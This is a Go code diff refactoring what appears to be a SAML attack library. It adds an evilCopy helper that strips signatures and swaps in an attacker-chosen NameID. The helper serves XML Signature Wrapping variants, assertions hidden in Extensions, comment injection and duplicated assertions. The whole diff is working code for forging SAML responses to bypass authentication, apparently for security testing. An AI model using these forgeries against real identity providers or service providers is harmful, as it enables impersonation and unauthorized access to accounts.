@@ -38,6 +38,15 @@ func SetNameID(el *etree.Element, v string) {
 	}
 }
 
+// evilCopy returns an unsigned copy of assertion a with a new ID, naming
+// evil.
+func evilCopy(a *etree.Element, evil string) *etree.Element {
+	e := removeSignature(a.Copy())
+	e.CreateAttr("ID", ID())
+	SetNameID(e, evil)
+	return e
+}
+
 func removeSignature(el *etree.Element) *etree.Element {
 	if s := child(el, "Signature"); s != nil {
 		el.RemoveChild(s)
@@ -65,15 +74,10 @@ func XSW(n int, signed *etree.Document, evil string) *etree.Document {
 		root.InsertChildAt(sig.Index(), orig)
 	case 3: // evil unsigned Assertion before the signed one
 		a := assertionOf(doc)
-		e := removeSignature(a.Copy())
-		e.CreateAttr("ID", ID())
-		SetNameID(e, evil)
-		root.InsertChildAt(a.Index(), e)
+		root.InsertChildAt(a.Index(), evilCopy(a, evil))
 	case 4: // evil Assertion wraps the signed one
 		a := assertionOf(doc)
-		e := removeSignature(a.Copy())
-		e.CreateAttr("ID", ID())
-		SetNameID(e, evil)
+		e := evilCopy(a, evil)
 		e.AddChild(a.Copy())
 		root.InsertChildAt(a.Index(), e)
 		root.RemoveChild(a)
@@ -128,13 +132,9 @@ func InjectComment(signed *etree.Document, cut int) *etree.Document {
 func HideAssertionInExtensions(signed *etree.Document, evil string) *etree.Document {
 	doc := signed.Copy()
 	a := assertionOf(doc)
-	e := removeSignature(a.Copy())
-	e.CreateAttr("ID", ID())
-	SetNameID(e, evil)
 	ext := etree.NewElement("samlp:Extensions")
-	ext.AddChild(e)
-	root := doc.Root()
-	root.InsertChildAt(a.Index(), ext)
+	ext.AddChild(evilCopy(a, evil))
+	doc.Root().InsertChildAt(a.Index(), ext)
 	return doc
 }
 
@@ -142,11 +142,7 @@ func HideAssertionInExtensions(signed *etree.Document, evil string) *etree.Docum
 // a new ID and evil NameID, unsigned.
 func DuplicateAssertion(signed *etree.Document, evil string) *etree.Document {
 	doc := signed.Copy()
-	a := assertionOf(doc)
-	e := removeSignature(a.Copy())
-	e.CreateAttr("ID", ID())
-	SetNameID(e, evil)
-	doc.Root().AddChild(e)
+	doc.Root().AddChild(evilCopy(assertionOf(doc), evil))
 	return doc
 }
 
